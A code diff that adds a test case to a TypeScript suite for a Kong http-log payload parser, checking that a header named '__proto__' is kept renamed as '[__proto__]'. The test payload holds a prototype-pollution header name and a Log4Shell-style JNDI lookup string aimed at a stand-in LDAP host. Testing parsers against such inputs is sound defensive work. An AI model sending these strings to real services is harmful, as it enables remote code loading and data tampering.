@@ -24,6 +24,15 @@ describe('Kong http-log payloads', () => {
     expect(get?.sidetap.capture).toEqual({ source: 'mirror:kong', flags: [] });
   });
 
+  it('keeps a header named __proto__, as [__proto__], with its value', () => {
+    const payload = Buffer.from(
+      '{"started_at":1715678467308,"client_ip":"203.0.113.45","request":{"method":"GET","uri":"/a","headers":{"host":"api.shop.test","__proto__":"${jndi:ldap://x/a}"}},"response":{"status":200,"headers":{}}}',
+    );
+    const parsed = parseKongPayload(payload);
+    expect(parsed.faults).toEqual([]);
+    expect(exchangesOf('kong', parsed)[0]?.http.request.headers).toEqual({ host: 'api.shop.test', '[__proto__]': '${jndi:ldap://x/a}' });
+  });
+
   it('keeps sizes without inventing bodies Kong did not log', () => {
     expect(get?.http.request.body).toEqual({ bytes: 0 });
     expect(get?.http.response?.body).toEqual({ bytes: 934 });
